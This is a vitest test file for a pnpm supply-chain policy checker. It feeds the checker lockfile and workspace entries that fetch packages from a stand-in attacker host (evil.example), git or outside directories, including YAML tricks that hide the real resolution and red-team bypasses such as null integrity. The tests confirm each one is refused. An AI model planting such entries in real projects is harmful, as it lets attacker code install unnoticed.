import { describe, expect, it } from "vitest";
import type { PolicyContext } from "./context";
import { npmSourceFindings } from "./npm-sources";

/** Lines as pnpm 10 writes them (taken from sebc-dev/website and yawarpwn/hono-tell-api). */
const HEADER = `lockfileVersion: '9.0'

settings:
  autoInstallPeers: true
  excludeLinksFromLockfile: false

importers:

  .:
    dependencies:
      next:
        specifier: 15.4.7
        version: 15.4.7(react@19.1.0)

packages:
`;
const REAL = `
  '@alloc/quick-lru@5.2.0':
    resolution: {integrity: sha512-UrcABB+4bUrFABwbluTIBErXwvbsU/V7TZWfmbgJfbkwiBuziS9gxdODUyuiecfdGQ85jglMW6juS3+z5TsKLw==}
    engines: {node: '>=10'}

  '@tailwindcss/oxide-wasm32-wasi@4.1.17':
    resolution: {integrity: sha512-cEytGqSSoy7zK4JRWiTCx43FsKP/zGr0CsuMawhH67ONlH+T79VteQeJQRO/X7L0juEUA8ZyuYikcRBf0vsxhg==}
    engines: {node: '>=14.0.0'}
    cpu: [wasm32]
    bundledDependencies:
      - '@napi-rs/wasm-runtime'
      - tslib

  q@1.5.1:
    resolution: {integrity: sha512-kV/CThkXo6xyFEZUugw/+pIOywXcDbFYgSct5cT3gqlbkBE1SJdwy6UQoZvodiWF/ckQLZyDE/Bu1M6gVu5lVw==}
    engines: {node: '>=0.6.0', teleport: '>=0.2.0'}
    deprecated: |-
      You or someone you depend on is using Q.

      (For a CapTP with native promises, see @endo/eventual-send)

  '@playground/local@file:packages/local':
    resolution: {directory: packages/local, type: directory}

  react-dom@19.1.0:
    resolution: {integrity: sha512-Xs1hdnE+DyKgeHJeJznQmYMIBG3TKIHJJT95Q58nHLSrElKlGQqDTR2HQ9fx5CN/Gk6Vh/kupBTDLU11/nDk/g==}
    peerDependencies:
      react: ^19.1.0
    peerDependenciesMeta:
      '@types/react':
        optional: true

snapshots:

  react-dom@19.1.0(react@19.1.0):
    dependencies:
      react: 19.1.0
`;
const WORKSPACE = `packages:
  - .

onlyBuiltDependencies:
  - esbuild
  - workerd
catalog:
  react: 19.1.0
overrides:
  "@types/node": "$@types/node"
  "esbuild@<=0.24.2": ">=0.25.0"
minimumReleaseAge: 4320
`;
const MANIFEST = JSON.stringify({
  name: "app",
  dependencies: { react: "catalog:", shared: "workspace:*" },
  pnpm: { overrides: { semver: "^7.5.2" } },
});

function audit(files: Record<string, string>) {
  const all: Record<string, string> = {
    "package.json": MANIFEST,
    "pnpm-lock.yaml": HEADER + REAL,
    "pnpm-workspace.yaml": WORKSPACE,
    ...files,
  };
  const ctx = { readFile: (f: string) => all[f] } as unknown as PolicyContext;
  return npmSourceFindings(ctx).map((f) => `${f.file}:${f.line} ${f.rule}`);
}

/** A package entry inserted before the real ones. */
const lockWith = (entry: string) => ({
  "pnpm-lock.yaml": `${HEADER}\n${entry}\n${REAL}`,
});

/** The 1-based line of the (last) line starting with `start` in the lockfile `lockWith` makes. */
function lineStarting(entry: string, start: string): number {
  const lines = `${HEADER}\n${entry}\n${REAL}`.split("\n");
  return lines.findLastIndex((l) => l.startsWith(start)) + 1;
}

describe("pnpm sources", () => {
  it("passes a lockfile, workspace settings and manifest as pnpm writes them", () => {
    expect(audit({})).toEqual([]);
  });

  it.each([
    [
      "a tarball from another host",
      `  evil@1.0.0:\n    resolution: {tarball: https://evil.example/evil-1.0.0.tgz}`,
    ],
    [
      "a git repository",
      `  evil@https://codeload.github.com/x/evil/tar.gz/abc:\n    resolution: {commit: abc, repo: https://github.com/x/evil, type: git}`,
    ],
    [
      "a directory outside the repository",
      `  evil@file:../evil:\n    resolution: {directory: ../evil, type: directory}`,
    ],
    ["no resolution at all", `  evil@1.0.0:\n    engines: {node: '>=10'}`],
  ])("refuses %s", (_, entry) => {
    expect(audit(lockWith(entry))).toEqual([
      `pnpm-lock.yaml:${lineStarting(entry, "  evil@")} lockfile-source`,
    ]);
  });

  it.each([
    [
      "a second resolution (YAML keeps the last)",
      `  evil@1.0.0:\n    resolution: {integrity: sha512-good}\n    resolution: {tarball: https://evil.example/e.tgz}`,
      "    resolution: {tarball",
    ],
    [
      "a resolution through an alias",
      `  evil@1.0.0:\n    engines: &r {tarball: https://evil.example/e.tgz}\n    resolution: *r`,
      "    resolution: *r",
    ],
    [
      "a multi-line string hiding the real resolution",
      `  evil@1.0.0:\n    deprecated: "x\n    resolution: {integrity: sha512-good}"\n    resolution: {tarball: https://evil.example/e.tgz}`,
      '    deprecated: "x',
    ],
    [
      "a flow map over two lines",
      `  evil@1.0.0:\n    resolution: {tarball: https://evil.example/e.tgz,\n      integrity: sha512-x}`,
      "    resolution: {tarball",
    ],
    [
      "a block scalar with an indentation indicator",
      `  evil@1.0.0:\n    deprecated: |1\n     resolution: {integrity: sha512-good}\n    resolution: {tarball: https://evil.example/e.tgz}`,
      "    deprecated: |1",
    ],
    ["a tab", `  evil@1.0.0:\n\tresolution: {integrity: sha512-x}`, "\t"],
  ])("refuses %s, which a line reader could misread", (_, entry, start) => {
    expect(audit(lockWith(entry))).toContain(
      `pnpm-lock.yaml:${lineStarting(entry, start)} lockfile-source`,
    );
  });

  it("accepts a tarball committed inside the repository as pnpm writes it, held by its integrity", () => {
    // As `pnpm add -D ./vendor/typed-cicd-pipeline-0.1.0.tgz` (pnpm 9.15) writes the entry.
    const entry = `  '@typed-cicd/pipeline@file:vendor/typed-cicd-pipeline-0.1.0.tgz':\n    resolution: {integrity: sha512-uyNQe8oDYLrlNZhBgHUTsTyPqPslFD91CbbxfiXWbKzR3M09CF79vrBB/xIeHkOe5Cd1Vz07pFp4wp+8fNvtRQ==, tarball: file:vendor/typed-cicd-pipeline-0.1.0.tgz}\n    version: 0.1.0\n    hasBin: true`;
    expect(audit(lockWith(entry))).toEqual([]);
    const outside = entry.replaceAll("file:vendor/", "file:../");
    expect(audit(lockWith(outside))).toEqual([
      `pnpm-lock.yaml:${lineStarting(outside, "  '@typed-cicd")} lockfile-source`,
    ]);
    const bare = entry.replace(/integrity: [^,]+, /, "");
    expect(audit(lockWith(bare))).toEqual([
      `pnpm-lock.yaml:${lineStarting(bare, "  '@typed-cicd")} lockfile-source`,
    ]);
  });

  it("refuses what the red team got through: an integrity pnpm does not check, a lone carriage return, an unreadable workspace file", () => {
    const vendored = (integrity: string) =>
      `  vpkg@file:vendor/vpkg-1.0.0.tgz:\n    resolution: {integrity: ${integrity}, tarball: file:vendor/vpkg-1.0.0.tgz}\n    version: 1.0.0`;
    for (const integrity of ["null", "~", "false", "0", "sha1-abc="]) {
      const entry = vendored(integrity);
      expect(audit(lockWith(entry)), integrity).toEqual([
        `pnpm-lock.yaml:${lineStarting(entry, "  vpkg@")} lockfile-source`,
      ]);
    }
    // A registry package whose integrity is null is fetched unpinned.
    const unpinned = `  evil@1.0.0:\n    resolution: {integrity: null}`;
    expect(audit(lockWith(unpinned))).toEqual([
      `pnpm-lock.yaml:${lineStarting(unpinned, "  evil@")} lockfile-source`,
    ]);
    // YAML breaks on a lone \r: the resolution pnpm installs hides in what a line reader sees as one line.
    const hidden = `  vpkg@1.0.0:\n    version: 1.0.0\r    resolution: {integrity: sha512-x, tarball: http://127.0.0.1:8123/vpkg-1.0.0.tgz}\r    deprecated: 'x\n    resolution: {integrity: sha512-UrcABB+4bUrFABwbluTIBErXwvbsU/V7TZWfmbgJfbkwiBuziS9gxdODUyuiecfdGQ85jglMW6juS3+z5TsKLw==}\n    libc: y'`;
    expect(audit(lockWith(hidden))).toContain(
      `pnpm-lock.yaml:${lineStarting(hidden, "    version: 1.0.0")} lockfile-source`,
    );
    // Windows line endings are not that.
    expect(
      audit({ "pnpm-lock.yaml": `${HEADER}${REAL}`.replaceAll("\n", "\r\n") }),
    ).toEqual([]);
    expect(
      audit({
        "pnpm-workspace.yaml": `${"k".repeat(1025)}: x\ncatalog:\n  react: https://evil.example/r.tgz\n`,
      }),
    ).toEqual(["pnpm-workspace.yaml:1 npmrc-option"]);
    expect(audit({ "pnpm-workspace.yaml": "# nothing yet\n" })).toEqual([]);
  });

  it("refuses a second document and a packages section through an alias", () => {
    const text = `${HEADER}${REAL}---\npackages: *p\n`;
    const last = text.split("\n").length - 1;
    expect(audit({ "pnpm-lock.yaml": text })).toEqual([
      `pnpm-lock.yaml:${last - 1} lockfile-source`,
      `pnpm-lock.yaml:${last} lockfile-source`,
    ]);
  });

  it.each([
    ["registry", "registry: https://evil.example/\n", "npmrc-option"],
    [
      "configDependencies",
      "configDependencies:\n  x: 1.0.0+sha512-abc\n",
      "npmrc-option",
    ],
    ["pnpmfile", "pnpmfile: ./hooks.cjs\n", "npmrc-option"],
    [
      "dangerouslyAllowAllBuilds",
      "dangerouslyAllowAllBuilds: true\n",
      "npmrc-option",
    ],
    [
      "a catalog URL",
      "catalog:\n  react: https://evil.example/react.tgz\n",
      "dependency-source",
    ],
    [
      "a named catalog from git",
      "catalogs:\n  next:\n    next: github:evil/next\n",
      "dependency-source",
    ],
    [
      "an override URL",
      'overrides:\n  "lodash": "https://evil.example/l.tgz"\n',
      "dependency-source",
    ],
    [
      "a package extension from git",
      "packageExtensions:\n  react-redux:\n    dependencies:\n      x: git+https://evil.example/x.git\n",
      "dependency-source",
    ],
  ])("refuses the workspace setting %s", (_, text, rule) => {
    const found = audit({ "pnpm-workspace.yaml": text });
    expect(found).toHaveLength(1);
    expect(found[0]).toMatch(
      new RegExp(`^pnpm-workspace\\.yaml:\\d+ ${rule}$`),
    );
  });

  it("refuses package.json's pnpm.overrides from a URL", () => {
    const manifest = JSON.stringify({
      name: "app",
      pnpm: { overrides: { lodash: "https://evil.example/l.tgz" } },
    });
    expect(audit({ "package.json": manifest })).toEqual([
      "package.json:1 dependency-source",
    ]);
  });
});
